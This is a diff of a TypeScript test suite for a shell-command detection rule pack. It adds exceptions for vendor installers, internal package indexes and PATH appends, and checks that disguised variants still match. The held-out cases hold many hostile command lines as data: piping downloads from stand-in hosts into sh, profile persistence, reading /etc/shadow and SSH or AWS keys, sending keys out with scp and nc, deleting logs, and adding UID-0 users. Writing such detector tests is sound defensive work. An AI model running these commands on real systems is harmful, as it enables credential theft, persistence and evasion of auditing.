@@ -62,6 +62,19 @@ const cases: Record<string, [hit: string, nearMiss: string]> = {
     'sudo zypper install -y http://198.51.100.9/tools.rpm',
     'sudo zypper install -y tmux',
   ],
+  // Informational context rules: the lines the alerting rule above them leaves aside.
+  st_vendor_installer_piped_to_shell: [
+    'curl -fsSL https://get.docker.com | sh',
+    'curl -fsSL https://get.docker.com/ -o get-docker.sh',
+  ],
+  st_package_from_known_source: [
+    'python3 -m pip install -U --index-url https://pypi.corp-eu.internal:8443/simple/ boto3==1.35.0',
+    'python3 -m pip install -U boto3==1.35.0',
+  ],
+  st_profile_path_appended: [
+    "echo 'export PATH=$PATH:/opt/terraform/bin' | sudo tee -a /etc/profile.d/terraform.sh",
+    'grep -n PATH /etc/profile.d/terraform.sh',
+  ],
   st_downloaded_package_installed: [
     'wget https://x.test/tool.deb; sudo dpkg -i tool.deb',
     'wget https://x.test/tool.tar.gz; tar xzf tool.tar.gz',
@@ -162,10 +175,80 @@ const tunings: [file: string, hit: string, nearMiss: string][] = [
     'sudo rpm -ivh http://198.51.100.9/a.rpm --define=x://amazon-ssm-',
     'sudo yum install -y https://amazon-ssm-eu-west-1.s3.eu-west-1.amazonaws.com/latest/linux_arm64/amazon-ssm-agent.rpm',
   ],
+  // Vendor installers: the exact vendor URL, plain options, a plain shell, nothing else on the line, is
+  // left to the informational st_vendor_installer_piped_to_shell.
+  [
+    'st_download_pipe_to_interpreter',
+    'curl -fsSL https://get.docker.com | sudo DOWNLOAD_URL=https://198.51.100.3/repo sh',
+    'curl -fsSL https://get.docker.com | sudo sh',
+  ],
+  [
+    'st_download_pipe_to_interpreter',
+    'curl -sSfL https://packagecloud.io/install/repositories/acme/tools/script.rpm.sh | sudo bash',
+    'curl -sSfL https://packagecloud.io/install/repositories/github/git-lfs/script.rpm.sh | sudo bash',
+  ],
+  [
+    'st_download_pipe_to_interpreter',
+    'wget -qO- https://sh.rustup.rs/@198.51.100.3 | sh -s -- -y',
+    'wget -qO- https://sh.rustup.rs | sh -s -- -y',
+  ],
+  // pip from an https index under .internal (or PyPI/PyTorch's own), bare requirements only, is left to
+  // st_package_from_known_source; an instance name, --trusted-host or a package URL is not.
+  [
+    'st_package_from_url',
+    'pip3 install --index-url https://ip-10-4-0-9.ec2.internal/simple boto3',
+    'pip3 install --index-url https://artifacts.internal/api/pypi/simple boto3',
+  ],
+  [
+    'st_package_from_url',
+    'pip3 install --trusted-host artifacts.internal -i https://artifacts.internal/simple boto3',
+    'pip3 install -i https://artifacts.internal/simple boto3',
+  ],
+  [
+    'st_package_from_url',
+    'pip3 install --extra-index-url https://download.pytorch.org/whl/cu121 https://198.51.100.9/torch.whl',
+    'pip3 install --extra-index-url https://download.pytorch.org/whl/cu121 torchvision',
+  ],
+  // Database vendors' repository packages over https are vendor packages; http is not the vendor.
+  [
+    'st_package_from_url',
+    'sudo dnf install -y http://dev.mysql.com/get/mysql84-community-release-el9-1.noarch.rpm',
+    'sudo dnf install -y https://dev.mysql.com/get/mysql84-community-release-el9-1.noarch.rpm',
+  ],
+  [
+    'st_package_from_url',
+    'sudo dnf install -y https://download.postgresql.org.mirror.example/pub/repos/yum/x.rpm',
+    'sudo dnf install -y https://download.postgresql.org/pub/repos/yum/reporpms/EL-8-x86_64/pgdg-redhat-repo-latest.noarch.rpm',
+  ],
+  // One single-quoted `export PATH=$PATH:<dir>` appended to the profile is left to
+  // st_profile_path_appended; a prepended, world-writable or double-quoted PATH, or an overwrite, is not.
+  [
+    'st_systemd_or_startup_persistence',
+    "echo 'export PATH=/dev/shm/.b:$PATH' | sudo tee -a /etc/profile.d/terraform.sh",
+    "echo 'export PATH=$PATH:/opt/terraform/bin' | sudo tee -a /etc/profile.d/packer.sh",
+  ],
+  [
+    'st_systemd_or_startup_persistence',
+    "echo 'export PATH=$PATH:/opt/terraform/bin' | sudo tee /etc/profile.d/terraform.sh",
+    "echo 'export PATH=$PATH:$HOME/go/bin' | sudo tee -a /etc/profile",
+  ],
+  [
+    'st_systemd_or_startup_persistence',
+    'echo "export PATH=$PATH:/opt/terraform/bin" | sudo tee -a /etc/profile',
+    "echo 'export PATH=$PATH:/snap/bin' | sudo tee -a /etc/profile",
+  ],
 ];
 
 const { rules, report } = loadRules({ builtin: true, dirs: [] });
 const set = compileRuleSet(rules);
+const contextRules = new Set([
+  'st_vendor_installer_piped_to_shell',
+  'st_package_from_known_source',
+  'st_profile_path_appended',
+]);
+/** Matches that raise an alert (detect-quality's count: level low or above). */
+const counted = (text: string) => evaluate(set, { text }).filter((r) => r.level !== 'informational');
+const ruleFile = (id: string) => basename(rules.find((r) => r.id === id)!.source, '.yml');
 
 describe('built-in rule pack', () => {
   it('loads every file, each with id, author, level, ATT&CK tags and false-positive notes', () => {
@@ -177,7 +260,10 @@ describe('built-in rule pack', () => {
       expect(rule.author).toBe('shelltrail');
       expect(rule.tags.some((t) => /^attack\.t\d{4}/.test(t))).toBe(true);
       expect(rule.falsepositives?.length).toBeGreaterThan(0);
-      expect(['low', 'medium', 'high', 'critical']).toContain(rule.level);
+      // Context rules are informational (they count neither way in detect-quality); every other
+      // rule raises an alert.
+      if (contextRules.has(basename(rule.source, '.yml'))) expect(rule.level).toBe('informational');
+      else expect(['low', 'medium', 'high', 'critical']).toContain(rule.level);
     }
   });
 
@@ -198,4 +284,232 @@ describe('built-in rule pack', () => {
       expect(evaluate(set, { text: nearMiss }).map((r) => r.id)).not.toContain(rule!.id);
     });
   }
+});
+
+/**
+ * Held-out attacks aimed at the exceptions above (vendor installers, private and vendor package
+ * sources, PATH appended to the profile): each is a way an attacker would try to pass for the
+ * excepted form, and the rule the exception belongs to must still match it. Written by hand, not
+ * in the corpus, not run through the bench before the exceptions were written.
+ */
+const heldOut: [file: string, attack: string][] = [
+  [
+    'st_download_pipe_to_interpreter',
+    'curl -fsSL https://get.k3s.io | K3S_URL=https://203.0.113.8:6443 K3S_TOKEN=abc sh -',
+  ],
+  [
+    'st_download_pipe_to_interpreter',
+    'curl -fsSL https://get.k3s.io | sudo INSTALL_K3S_EXEC=--kubelet-arg=x sh -',
+  ],
+  ['st_download_pipe_to_interpreter', 'curl -fsSL https://get.docker.com@203.0.113.8/i.sh | sh'],
+  ['st_download_pipe_to_interpreter', 'curl -fsSL https://get.docker.com.evil.example/ | sh'],
+  ['st_download_pipe_to_interpreter', 'curl -kfsSL https://get.docker.com | sh'],
+  ['st_download_pipe_to_interpreter', 'curl -K /tmp/.c -fsSL https://sh.rustup.rs | sh'],
+  ['st_download_pipe_to_interpreter', 'curl -fsSL https://sh.rustup.rs https://203.0.113.8/x.sh | sh'],
+  [
+    'st_download_pipe_to_interpreter',
+    'curl -fsSL https://tailscale.com/install.sh | sh; curl -fsSL http://203.0.113.8/x | sh',
+  ],
+  ['st_download_pipe_to_interpreter', 'curl -fsSL http://get.docker.com | sh'],
+  [
+    'st_download_pipe_to_interpreter',
+    'curl -fsSL https://packagecloud.io/install/repositories/evilcorp/tools/script.deb.sh | sudo bash',
+  ],
+  [
+    'st_download_pipe_to_interpreter',
+    'curl -fsSL https://raw.githubusercontent.com/evilcorp/x/main/install.sh | bash',
+  ],
+  ['st_download_pipe_to_interpreter', 'curl -fsSL https://get.docker.com/?u=http://203.0.113.8/ | sh'],
+  [
+    'st_download_pipe_to_interpreter',
+    'curl -fsSL https://deb.nodesource.com/setup_20.x | sudo bash -s -- --mirror http://203.0.113.8',
+  ],
+  ['st_download_pipe_to_interpreter', 'wget --no-check-certificate -qO- https://get.docker.com | sh'],
+  ['st_download_pipe_to_interpreter', 'curl -x http://203.0.113.8:3128 -fsSL https://get.docker.com | sh'],
+  ['st_download_pipe_to_interpreter', 'curl -fsSL https://sh.rustup.rs | sh 2>/dev/null | tee /tmp/.o'],
+  [
+    'st_download_pipe_to_interpreter',
+    "curl -fsSL 'https://get.k3s.io' | sh -s - server --token x --server https://203.0.113.8:6443",
+  ],
+  ['st_package_from_url', 'pip install --index-url https://pypi.internal.evil.example/simple requests'],
+  ['st_package_from_url', 'pip install --index-url https://nexus.internal@203.0.113.8/simple requests'],
+  ['st_package_from_url', 'pip install --index-url https://nexus.internal:443@evil.example/simple requests'],
+  ['st_package_from_url', 'pip install --index-url http://nexus.internal/simple requests'],
+  [
+    'st_package_from_url',
+    'pip install --trusted-host nexus.internal --index-url https://nexus.internal/simple requests',
+  ],
+  [
+    'st_package_from_url',
+    'pip install --index-url https://nexus.internal/simple --cert /tmp/ca.pem requests',
+  ],
+  ['st_package_from_url', 'pip install --index-url https://ip-10-0-3-7.ec2.internal/simple requests'],
+  [
+    'st_package_from_url',
+    'pip3 install -i https://ip-172-31-9-4.eu-west-1.compute.internal:8443/simple boto3',
+  ],
+  ['st_package_from_url', 'pip install --extra-index-url https://203.0.113.8/simple requests'],
+  ['st_package_from_url', 'pip install --index-url https://nexus.internal/simple https://203.0.113.8/x.whl'],
+  ['st_package_from_url', 'pip install --index-url https://nexus.internal/simple -r /tmp/req.txt'],
+  [
+    'st_package_from_url',
+    'pip install -i https://nexus.internal/simple --find-links https://203.0.113.8/w/ requests',
+  ],
+  ['st_package_from_url', 'pip install --index-url https://evil.example/.internal/simple requests'],
+  ['st_package_from_url', 'python3 -m pip install --index-url https://pypi.org.evil.example/simple requests'],
+  [
+    'st_package_from_url',
+    'pip install --extra-index-url https://download.pytorch.org.evil.example/whl torch',
+  ],
+  ['st_package_from_url', 'pip install --index-url https://localhost:8443/simple requests'],
+  [
+    'st_package_from_url',
+    'pip install --index-url https://nexus.internal/simple git+https://203.0.113.8/x.git',
+  ],
+  ['st_package_from_url', 'sudo yum install -y https://dev.mysql.com.evil.example/get/x.rpm'],
+  [
+    'st_package_from_url',
+    'sudo dnf install -y http://dev.mysql.com/get/mysql80-community-release-el9-5.noarch.rpm',
+  ],
+  ['st_package_from_url', 'sudo yum install -y https://dev.mysql.com/get/x.rpm https://203.0.113.8/y.rpm'],
+  ['st_package_from_url', 'sudo rpm -ivh https://download.postgresql.org@203.0.113.8/pub/repos/x.rpm'],
+  [
+    'st_package_from_url',
+    'sudo dnf install -y https://download.postgresql.org/pub/repos/x.rpm?u=http://203.0.113.8/y.rpm',
+  ],
+  ['st_package_from_url', 'sudo yum install -y https://203.0.113.8/dev.mysql.com/get/x.rpm'],
+  [
+    'st_package_from_url',
+    'sudo rpm -Uvh http://dl.fedoraproject.org/pub/epel/epel-release-latest-9.noarch.rpm',
+  ],
+  ['st_systemd_or_startup_persistence', "echo 'export PATH=/tmp/.x:$PATH' | sudo tee -a /etc/profile"],
+  ['st_systemd_or_startup_persistence', 'echo "export PATH=$PATH:/usr/local/bin" | sudo tee -a /etc/profile'],
+  ['st_systemd_or_startup_persistence', "echo 'export PATH=$PATH:/tmp' | sudo tee -a /etc/profile"],
+  [
+    'st_systemd_or_startup_persistence',
+    "echo 'export PATH=$PATH:/usr/local/bin; curl -s http://203.0.113.8/p | sh' | sudo tee -a /etc/profile",
+  ],
+  ['st_systemd_or_startup_persistence', "echo 'export PATH=$PATH:/usr/../tmp/x' | sudo tee -a /etc/profile"],
+  [
+    'st_systemd_or_startup_persistence',
+    "echo 'export PATH=$PATH:/usr/local/bin' | sudo tee /etc/profile.d/00-audit.sh",
+  ],
+  [
+    'st_systemd_or_startup_persistence',
+    "echo 'export PATH=$PATH:$(curl -s http://203.0.113.8/p)' | sudo tee -a /etc/profile",
+  ],
+  [
+    'st_systemd_or_startup_persistence',
+    "echo 'export PATH=$PATH:/usr/local/bin' | sudo tee -a /etc/profile.d/../../etc/cron.d/x",
+  ],
+  [
+    'st_systemd_or_startup_persistence',
+    "echo 'export PATH=$PATH:/usr/local/bin' | sudo tee -a /etc/profile /etc/bash.bashrc /etc/rc.local",
+  ],
+  [
+    'st_systemd_or_startup_persistence',
+    "echo 'export PATH=$PATH:/opt/x/bin' > /tmp/p; echo 'curl -s http://203.0.113.8/p|sh' | sudo tee -a /etc/profile",
+  ],
+];
+
+/**
+ * The 40 held-out attack lines of the first tuning round (147fea1), aimed at the tunings of a8b4a1a:
+ * each must still raise an alert.
+ */
+const heldOutFirstRound: string[] = [
+  'sudo cat /etc/shadow',
+  'sudo -u root cat /etc/shadow | tee /tmp/h',
+  'env -i cat /etc/gshadow',
+  'nohup cp /etc/shadow /var/tmp/.s &',
+  'sudo tar czf /tmp/k.tgz /root/.ssh',
+  'sudo cp /root/.ssh/id_rsa /tmp/.k',
+  'scp /home/ubuntu/.ssh/id_ed25519 x@203.0.113.4:/tmp/',
+  'zip -r /tmp/s.zip ~/.ssh/',
+  'rsync -av ~/.ssh/ x@203.0.113.4:/tmp/s/',
+  'sudo find / -name "*.pem" -exec cat {} \\;',
+  'find ~ -name "*.pem"',
+  'sudo base64 /root/.ssh/id_ecdsa',
+  'sudo cat /root/.aws/credentials',
+  'nice -n 5 cat ~/.aws/credentials',
+  'find /var/log -type f -delete',
+  'find /var/log -name "*.log" -exec truncate -s 0 {} +',
+  'find /var/log/ -mmin -60 -delete',
+  'sudo find /var/log -type f -mtime -1 -exec rm {} \\;',
+  'echo "* * * * * root /tmp/x" > /var/spool/cron/crontabs/root',
+  'tee -a /var/spool/cron/root <<< "* * * * * /tmp/x"',
+  'sudo systemctl kill auditd',
+  'systemctl kill -s SIGKILL amazon-ssm-agent',
+  'systemctl kill -s 9 rsyslog',
+  'sudo systemctl stop rsyslog',
+  'useradd -M -s /sbin/nologin -o -u 0 sysd',
+  'sudo useradd --system -u 0 -o -s /bin/bash sync2',
+  'adduser eve',
+  'useradd -m -G sudo eve',
+  'sudo rpm -i http://203.0.113.9/x.rpm',
+  'yum -y localinstall http://203.0.113.9/a.rpm',
+  'sudo dnf upgrade -y https://203.0.113.9/b.rpm',
+  'zypper in -y http://203.0.113.9/c.rpm',
+  'apt-get install -y https://203.0.113.9/d.deb',
+  'pip install https://203.0.113.9/e.tar.gz',
+  'sudo auditctl -e 0',
+  'sudo ls /etc/shadow; sudo cat /etc/shadow',
+  'cat /home/*/.ssh/id_rsa',
+  'tar cf - /root/.ssh | nc 203.0.113.4 9001',
+  'scp -i ~/.ssh/k.pem ~/.ssh/id_rsa x@203.0.113.4:',
+  'sudo useradd -r -s /bin/bash backup2',
+];
+
+describe('held-out attacks against the tunings', () => {
+  it.each(heldOut)('%s matches %s', (file, attack) => {
+    expect(counted(attack).map((r) => ruleFile(r.id))).toContain(file);
+  });
+  it.each(heldOutFirstRound)('raises an alert: %s', (attack) => {
+    expect(counted(attack).length).toBeGreaterThan(0);
+  });
+  it('has more than 40 lines aimed at the exceptions', () => {
+    expect(new Set(heldOut.map(([, a]) => a)).size).toBeGreaterThanOrEqual(40);
+    expect(new Set(heldOutFirstRound).size).toBe(40);
+  });
+});
+
+/**
+ * What the exceptions leave aside still shows: each near miss of the tunings above that an
+ * exception covers raises no alert and is reported by its informational context rule.
+ */
+const shownAsContext: [file: string, line: string][] = [
+  ['st_vendor_installer_piped_to_shell', 'curl -fsSL https://get.docker.com | sudo sh'],
+  [
+    'st_vendor_installer_piped_to_shell',
+    'curl -sSfL https://packagecloud.io/install/repositories/github/git-lfs/script.rpm.sh | sudo bash',
+  ],
+  ['st_vendor_installer_piped_to_shell', 'wget -qO- https://sh.rustup.rs | sh -s -- -y'],
+  [
+    'st_package_from_known_source',
+    'pip3 install --index-url https://artifacts.internal/api/pypi/simple boto3',
+  ],
+  ['st_package_from_known_source', 'pip3 install -i https://artifacts.internal/simple boto3'],
+  [
+    'st_package_from_known_source',
+    'pip3 install --extra-index-url https://download.pytorch.org/whl/cu121 torchvision',
+  ],
+  [
+    'st_package_from_known_source',
+    'sudo dnf install -y https://dev.mysql.com/get/mysql84-community-release-el9-1.noarch.rpm',
+  ],
+  [
+    'st_package_from_known_source',
+    'sudo rpm -Uvh https://s3.amazonaws.com/amazoncloudwatch-agent/redhat/arm64/latest/amazon-cloudwatch-agent.rpm',
+  ],
+  [
+    'st_profile_path_appended',
+    "echo 'export PATH=$PATH:/opt/terraform/bin' | sudo tee -a /etc/profile.d/packer.sh",
+  ],
+  ['st_profile_path_appended', "echo 'export PATH=$PATH:$HOME/go/bin' | sudo tee -a /etc/profile"],
+];
+
+describe('lines left to the informational context rules', () => {
+  it.each(shownAsContext)('%s reports %s, and nothing raises an alert', (file, line) => {
+    expect(counted(line)).toEqual([]);
+    expect(evaluate(set, { text: line }).map((r) => ruleFile(r.id))).toContain(file);
+  });
 });
